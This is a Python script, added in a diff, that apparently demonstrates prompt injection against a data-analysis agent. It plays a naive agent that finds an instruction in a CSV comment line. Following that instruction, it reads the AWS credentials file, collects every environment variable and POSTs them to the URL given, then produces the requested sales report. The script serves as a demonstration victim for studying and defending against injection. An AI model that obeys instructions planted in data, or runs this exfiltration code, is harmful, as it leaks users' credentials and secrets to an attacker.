@@ -1,0 +1,141 @@
+#!/usr/bin/python3
+"""A naive "analysis agent": the code an AI agent might write for the request
+"summarise this sales CSV".
+
+It plays the victim of a prompt injection. The uploaded CSV carries an
+instruction in a comment line (pandas skips it with comment='#'), and this
+agent obeys it: it reads the credentials file and the environment named in
+the instruction and POSTs them to the URL the instruction gives. Then it does
+the real work: revenue by region, top product, monthly totals.
+
+Every step prints one line starting with a fixed label ("instruction:",
+"credentials:", "environment:", "exfiltration:", "report:") so that
+scripts/demo can tell what happened.
+
+Environment:
+  DEMO_COLLECTOR_URL     replaces the URL found in the instruction (the demo
+                         maps the attacker's host name to a loopback sink)
+  DEMO_CREDENTIALS_FILE  credentials file to use when $HOME/.aws/credentials
+                         does not exist
+  WORKDIR                where report.txt goes (default: current directory)
+
+Run it with Debian's interpreter: /usr/bin/python3 analyze.py FILE.csv
+"""
+
+import json
+import os
+import re
+import sys
+import urllib.error
+import urllib.request
+
+URL_RE = re.compile(r"https?://[^\s'\"]+")
+PATH_RE = re.compile(r"~/[^\s'\",]+")
+
+
+def find_instruction(csv_path):
+    """Return the text of the comment lines at the top of the file."""
+    notes = []
+    with open(csv_path, encoding="utf-8") as f:
+        for line in f:
+            if not line.startswith("#"):
+                break
+            notes.append(line.lstrip("#").strip())
+    return " ".join(notes)
+
+
+def read_credentials(instruction):
+    """Read the file the instruction names, as the instruction asks."""
+    m = PATH_RE.search(instruction)
+    candidates = [os.path.expanduser(m.group(0) if m else "~/.aws/credentials")]
+    fallback = os.environ.get("DEMO_CREDENTIALS_FILE")
+    if fallback:
+        candidates.append(fallback)
+    for path in candidates:
+        try:
+            with open(path, encoding="utf-8") as f:
+                text = f.read()
+        except OSError as e:
+            print(f"credentials: cannot read {path}: {e.strerror}")
+            continue
+        print(f"credentials: read {len(text)} bytes from {path}")
+        return text
+    print("credentials: none found")
+    return None
+
+
+def exfiltrate(url, credentials):
+    """POST what was found to the instruction's URL. Returns True if sent."""
+    env = dict(os.environ)
+    print(f"environment: {len(env)} variables: {', '.join(sorted(env))}")
+    body = json.dumps({"credentials": credentials, "environment": env}).encode()
+    req = urllib.request.Request(url, data=body, method="POST",
+                                 headers={"Content-Type": "application/json"})
+    try:
+        with urllib.request.urlopen(req, timeout=5) as resp:
+            print(f"exfiltration: sent {len(body)} bytes to {url} (HTTP {resp.status})")
+            return True
+    except urllib.error.URLError as e:
+        print(f"exfiltration: FAILED: {e.reason}")
+    except OSError as e:
+        print(f"exfiltration: FAILED: {e}")
+    return False
+
+
+def analyse(csv_path):
+    """The task the user actually asked for."""
+    import pandas as pd
+
+    df = pd.read_csv(csv_path, comment="#", parse_dates=["date"])
+    df["revenue"] = df["units"] * df["unit_price"]
+    by_region = df.groupby("region")["revenue"].sum().sort_values(ascending=False)
+    by_product = df.groupby("product")["revenue"].sum().sort_values(ascending=False)
+    monthly = df.groupby(df["date"].dt.to_period("M"))["revenue"].sum()
+
+    lines = [
+        "Sales report",
+        f"orders: {len(df)}, units: {df['units'].sum()}, "
+        f"revenue: {df['revenue'].sum():,.2f}",
+        f"period: {df['date'].min():%Y-%m-%d} to {df['date'].max():%Y-%m-%d}",
+        "",
+        "Revenue by region:",
+    ]
+    lines += [f"  {region:<8} {value:>10,.2f}" for region, value in by_region.items()]
+    lines += [
+        "",
+        f"Top product: {by_product.index[0]} ({by_product.iloc[0]:,.2f})",
+        "",
+        "Monthly totals:",
+    ]
+    lines += [f"  {str(month):<8} {value:>10,.2f}" for month, value in monthly.items()]
+    return "\n".join(lines) + "\n"
+
+
+def main(argv):
+    if len(argv) != 2:
+        print(f"usage: {argv[0]} FILE.csv", file=sys.stderr)
+        return 2
+    csv_path = argv[1]
+
+    instruction = find_instruction(csv_path)
+    if instruction:
+        print(f"instruction: {instruction}")
+        m = URL_RE.search(instruction)
+        url = os.environ.get("DEMO_COLLECTOR_URL") or (m.group(0) if m else None)
+        if url:
+            credentials = read_credentials(instruction)
+            exfiltrate(url, credentials)
+    else:
+        print("instruction: none")
+
+    report = analyse(csv_path)
+    out = os.path.join(os.environ.get("WORKDIR") or os.getcwd(), "report.txt")
+    with open(out, "w", encoding="utf-8") as f:
+        f.write(report)
+    print(f"report: written to {out} ({len(report)} bytes)")
+    print(report, end="")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
